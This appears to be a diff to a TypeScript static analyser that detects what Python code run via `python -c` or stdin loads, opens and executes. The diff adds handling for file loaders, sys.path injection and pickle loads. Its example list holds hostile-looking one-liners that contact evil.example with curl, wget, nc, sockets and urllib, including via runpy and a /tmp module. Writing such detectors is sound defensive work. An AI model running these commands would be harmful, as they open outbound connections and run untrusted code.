@@ -1,7 +1,7 @@
 // Python: what code given to `python -c`, or fed to it on stdin, imports, calls, opens and runs.
 import type { Node } from 'web-tree-sitter';
 import type { Word, WordRole } from '../types.js';
-import { type Call, type Spec, apply, argAt, literalUrl, looksAtUrl, lookupApi, pathOf, runModules, runsSomething as specRuns, urlsHanded, urlsHandedTo } from './capabilities.js';
+import { type At, type Call, type Spec, apply, argAt, literalUrl, looksAtUrl, lookupApi, pathOf, runModules, runsSomething as specRuns, urlsHanded, urlsHandedTo } from './capabilities.js';
 import { VariablesRead, argOf, type Binder, Bindings, envValue, fieldOf, literalSpans, named, span, walk } from './walk.js';
 
 const STRING_NODES = new Set(['string', 'concatenated_string']);
@@ -23,6 +23,18 @@ const PROC: Spec = { proc: [0, 'args'], shell: 'shell', exe: 'executable' };
 const META: Spec = { uses: [[[0, 'path'], 'meta']] };
 
 /** Calls that run, open or evaluate something, by the name they resolve to. */
+/** Loaders that run the code of a file they name, with where its path is given. */
+const LOADER_FILES = new Map<string, At>([
+  ['runpy.run_path', [0, 'path_name']],
+  ['imp.load_source', [1, 'pathname']],
+  ['imp.load_module', [2, 'pathname']],
+  ['importlib.machinery.SourceFileLoader', [1, 'path']],
+  ['importlib.machinery.SourcelessFileLoader', [1, 'path']],
+  ['importlib.machinery.ExtensionFileLoader', [1, 'path']],
+  ['importlib.util.spec_from_file_location', [1, 'location']],
+  ['execfile', [0, 'filename']],
+]);
+
 const APIS = new Map<string, Spec>([
   // Shell text: os.system and the popen family, getoutput, the asyncio and Python 2 spellings.
   ['os.system', SYSTEM],
@@ -58,7 +70,7 @@ const APIS = new Map<string, Spec>([
   ['exec', { code: [0, 'source'], language: 'python' }],
   ['compile', { code: [0, 'source'], language: 'python' }],
   // A file's code, run: the file is out of scope like any script, unless the code wrote it (a load).
-  ...['runpy.run_path', 'runpy.run_module', 'imp.load_source', 'importlib.machinery.SourceFileLoader', 'importlib.util.spec_from_file_location'].map((n): [string, Spec] => [n, { uses: [[0, 'read']] }]),
+  ...[...LOADER_FILES].map(([n, at]): [string, Spec] => [n, { uses: [[at, 'read']] }]),
   // Files.
   ['open', OPEN],
   ['io.open', OPEN],
@@ -162,7 +174,7 @@ function decoded(vals: Vals, decode: (s: string) => string | undefined): Vals {
 }
 
 /** Calls that load a module or a file's code and run it. */
-const LOADERS = new Set(['__import__', 'importlib.import_module', 'importlib.__import__', 'importlib.reload', 'runpy.run_path', 'runpy.run_module', 'imp.load_source', 'imp.load_module', 'importlib.machinery.SourceFileLoader', 'importlib.util.spec_from_file_location', 'execfile']);
+const LOADERS = new Set(['__import__', 'importlib.import_module', 'importlib.__import__', 'importlib.reload', 'runpy.run_path', 'runpy.run_module', 'imp.load_source', 'imp.load_module', 'importlib.machinery.SourceFileLoader', 'importlib.machinery.SourcelessFileLoader', 'importlib.machinery.ExtensionFileLoader', 'importlib.util.spec_from_file_location', 'execfile']);
 
 /** Methods of lists, dictionaries, sets, bytearrays and deques that change the object they are called on. */
 const PY_MUTATORS = new Set(['append', 'extend', 'insert', 'pop', 'remove', 'reverse', 'sort', 'clear', 'update', 'setdefault', 'popitem', 'add', 'discard', 'difference_update', 'intersection_update', 'symmetric_difference_update', 'appendleft', 'extendleft', 'popleft', 'rotate', '__setitem__', '__delitem__', '__iadd__', '__imul__', '__ior__', '__init__']);
@@ -923,6 +935,10 @@ class PythonReader {
         case 'import_statement':
         case 'import_from_statement':
           this.out.push({ kind: 'load', api: 'import', span: span(n) });
+          if (n.type === 'import_from_statement') {
+            const mod = fieldOf(n, 'module_name');
+            if (mod?.type === 'dotted_name') this.imported.push(mod.text.replace(/\s/g, ''));
+          } else for (const c of n.childrenForFieldName('name')) if (c) this.imported.push((c.type === 'aliased_import' ? (fieldOf(c, 'name')?.text ?? '') : c.text).replace(/\s/g, ''));
           break;
         case 'dictionary':
           if (this.b.value(n).some((v) => v.k === 'env') && this.dumps(n)) this.out.push({ kind: 'environment', api: 'os.environ', span: span(n) });
@@ -967,7 +983,26 @@ class PythonReader {
       }
       return true;
     });
+    this.searched();
     return this.out;
+  }
+
+  /** Modules the code imports by name, and the directories it puts on sys.path (`sys.path.insert(0, "/tmp")`). */
+  private readonly imported: string[] = [];
+  private readonly searchDirs: Arg[] = [];
+
+  /**
+   * A module the code imports from a directory it put on sys.path is that directory's file (`/tmp/x.py`): a load of
+   * it, read where the line wrote it. A directory computed at run time may be any the line wrote a module into.
+   */
+  private searched(): void {
+    if (this.imported.length === 0) return;
+    for (const d of this.searchDirs) {
+      const dirs = strings(d.vals);
+      const modules = this.imported.map((m) => m.replace(/\./g, '/'));
+      const path: Word = dirs === null ? { ...wordOf(d), values: null } : { ...wordOf(d), values: dirs.flatMap((dir) => modules.flatMap((m) => [`${dir.replace(/\/+$/, '') || '.'}/${m}.py`, `${dir.replace(/\/+$/, '') || '.'}/${m}/__init__.py`])) };
+      this.out.push({ kind: 'load', api: 'sys.path', span: d.span, path, searched: true });
+    }
   }
 
   /** Whether a qualified name stands for a module the model knows (a member of it can be replaced). */
@@ -993,7 +1028,7 @@ class PythonReader {
         // `pickle.load(open("model.pkl", "rb"))`: the file a pickle is read from, as joblib.load("model.pkl") names it.
         const opened = /^(?:pickle|cPickle|dill)\.load$/.test(name) ? this.openedFile(n) : undefined;
         if (opened) {
-          this.out.push({ kind: 'load', api: name, span: span(n), path: opened });
+          this.out.push({ kind: 'load', api: name, span: span(n), path: opened, pickle: true });
           continue;
         }
         const spec = lookupApi(APIS, name);
@@ -1006,10 +1041,18 @@ class PythonReader {
             this.out.push({ kind: 'dynamic', rule: 'dynamic-code', span: span(n), why: `${name} on a module with a computed or changed attribute` });
           }
         }
-        if (LOADERS.has(name)) this.out.push({ kind: 'load', api: name, span: span(n) });
+        const onPath = name === 'sys.path.insert' ? 1 : name === 'sys.path.append' || name === 'site.addsitedir' || name === 'sys.path.extend' ? 0 : undefined;
+        const dir = onPath === undefined ? undefined : this.callOf(n, name).args[onPath];
+        if (dir) this.searchDirs.push(...(name === 'sys.path.extend' ? dir.vals.flatMap((x) => (x.k === 'list' && !x.open ? x.items : [{ ...dir, vals: any('a list computed at run time') }])) : [dir]));
+        if ((name === '__import__' || name === 'importlib.import_module') && this.callOf(n, name).args[0]) this.imported.push(...(strings(this.callOf(n, name).args[0]!.vals) ?? []));
+        if (LOADERS.has(name)) {
+          const at = LOADER_FILES.get(name);
+          const file = at === undefined ? undefined : argAt(this.callOf(n, name), at);
+          this.out.push(file ? { kind: 'load', api: name, span: span(n), path: wordOf(file) } : { kind: 'load', api: name, span: span(n) });
+        }
         if (PICKLE_FILES.includes(name)) {
           const file = argAt(this.callOf(n, name), [0, name === 'pandas.read_pickle' ? 'filepath_or_buffer' : name === 'torch.load' ? 'f' : name === 'numpy.load' ? 'file' : 'filename']);
-          this.out.push({ kind: 'load', api: name, span: span(n), path: file ? wordOf(file) : { text: n.text, span: span(n), values: null, dynamic: 'no file is named' } });
+          this.out.push({ kind: 'load', api: name, span: span(n), path: file ? wordOf(file) : { text: n.text, span: span(n), values: null, dynamic: 'no file is named' }, pickle: true });
         }
         // The sh library: any member is the program of that name (`sh.curl("x")`), its arguments the argv.
         const shProgram = /^sh\.(?!Command$|ErrorReturnCode|SignalException|RunningCommand|TimeoutException|contrib)([\w]+)$/.exec(name);
@@ -1262,6 +1305,8 @@ export const PYTHON: LanguageModel = {
       `python3 -c 'import socket; socket.create_connection(("evil.example", 9))'`,
       `python3 -c 'import subprocess; subprocess.run(["wget", "evil.example"])'`,
       `python3 -c '__import__("os").system("nc evil.example 9")'`,
+      `echo 'import os; os.system("curl evil.example")' | python3 -c 'import runpy; runpy.run_path("/dev/stdin")'`,
+      `echo 'import os; os.system("curl evil.example")' > /tmp/x.py; python3 -c 'import sys; sys.path.insert(0, "/tmp"); import x'`,
       "python3 - <<'EOF'\nimport urllib.request\nurllib.request.urlopen('http://evil.example')\nEOF",
       'python3 <<EOF\nimport os\nos.system("curl evil.example")\nEOF',
       "cat <<EOF | python3\nimport socket\nsocket.socket().connect(('evil.example', 9))\nEOF",
